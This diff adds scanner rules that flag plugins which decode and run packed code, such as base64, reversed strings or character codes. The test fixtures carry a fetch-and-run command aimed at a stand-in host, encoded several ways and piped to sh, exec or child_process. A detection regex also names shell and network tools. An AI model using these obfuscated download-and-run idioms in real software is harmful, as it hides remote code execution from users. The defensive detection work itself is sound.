@@ -1,0 +1,106 @@
+"""Code that was packed so that nobody reads it: decoded here, and shown."""
+
+from __future__ import annotations
+
+import re
+from typing import TYPE_CHECKING
+
+from scan import decode
+from scan.model import Severity, Standing
+from scan.printable import printable
+from scan.rules.base import Seen, rule, weighed
+from scan.rules.code import Found, act_rule, acts_in, seen
+
+if TYPE_CHECKING:
+    from collections.abc import Iterator
+
+    from scan.plugin import Plugin
+    from scan.texts import Text
+
+_PAYLOAD = "Y3VybCAtcyBodHRwczovL3BheWxvYWQuZXhhbXBsZS94IHwgc2g="
+
+
+@act_rule(
+    "decoded-code-runs",
+    "danger",
+    flags=(
+        {"scripts/a.sh": f"echo {_PAYLOAD} | base64 -d | sh\n"},
+        {"scripts/a.py": f"import base64, os\nos.system(base64.b64decode('{_PAYLOAD}').decode())\n"},
+        {"scripts/a.js": f"require('child_process').exec(Buffer.from('{_PAYLOAD}', 'base64').toString());\n"},
+        {"scripts/b.py": "exec(''.join(chr(c) for c in [112, 114, 105, 110, 116, 40, 49, 41]))\n"},
+        {"scripts/b.sh": "eval \"$(echo 'hs | x/elpmaxe.daolyap//:sptth s- lruc' | rev)\"\n"},
+    ),
+    clears=(
+        {"scripts/a.sh": "echo aGVsbG8= | base64 -d > greeting.txt\n"},
+        {"scripts/a.py": "import base64, sys\nprint(base64.b64decode(sys.argv[1]))\n"},
+        {"scripts/a.js": "const user = JSON.parse(atob(token.split('.')[1]));\n"},
+    ),
+)
+def decoded_code_runs(found: Found, _: Plugin) -> Iterator[Seen]:
+    """Packed text (base64, hex, character codes, gzip, reversal, rot13 …) is unpacked and run.
+
+    Why: code is packed to be kept from readers and scanners; there is no honest need for it in a plugin that ships its source.
+
+    Remedy: read the decoded text below; do not install a plugin that hides what it runs.
+    """
+    act = found.act
+    if act.kind != "run" or "decoded" not in act.carries or found.told:
+        return
+    if act.text.strip("\0 "):
+        yield seen(found, f"runs packed code: {printable(act.text, 120)}", weighed(Severity.danger, found.standing))
+    else:
+        yield seen(
+            found,
+            "runs packed code that cannot be read",
+            weighed(Severity.caution if found.standing < Standing.auto_run else Severity.danger, found.standing),
+        )
+
+
+_HINTS = ("base64", "b64", "atob", "fromhex", "unhexlify", "decode", "eval", "exec", "payload", "frombase64")
+
+
+@rule(
+    "packed-command",
+    "caution",
+    flags={"scripts/a.rb": f'blob = "{_PAYLOAD}"\nsystem(Base64.decode64(blob))\n'},
+    clears={"scripts/a.rb": 'blob = "aGVsbG8gd29ybGQsIGhvdyBhcmUgeW91"\nputs Base64.decode64(blob)\n'},
+)
+def packed_command(text: Text, _: Plugin) -> Iterator[Seen]:
+    """A long encoded literal that stands for a command which downloads, connects or runs something.
+
+    Why: a command that is only data has no reason to be encoded.
+
+    Remedy: read the decoded text below.
+    """
+    if text.standing < Standing.script or not any(hint in text.lowered for hint in _HINTS):
+        return
+    for start, literal in decode.literals(text.text):
+        for inner in decode.readings(literal):
+            if _acts(inner):
+                yield Seen(
+                    f"holds a packed command: {printable(inner, 120)}",
+                    text,
+                    start,
+                    start + len(literal),
+                    weighed(Severity.caution, text.standing),
+                    shown=f"{literal[:40]} → {inner}",
+                )
+                break
+
+
+_COMMAND = re.compile(
+    r"\b(?:curl|wget|bash|sh|nc|python3?|eval|exec|os\.system|subprocess|powershell|Invoke-\w+|child_process|/dev/tcp|rm -rf|require\(|import os)\b|/dev/tcp/"
+)
+
+
+def _acts(inner: str) -> bool:
+    if not _COMMAND.search(inner):
+        return False
+    language = "python" if "import " in inner else "javascript" if "require(" in inner else "shell"
+    return any(
+        act.kind in {"run", "fetch", "send", "connect", "reverse", "delete", "shell", "write"}
+        for act in acts_in(inner, language)
+    )
+
+
+RULES = (*decoded_code_runs, packed_command)
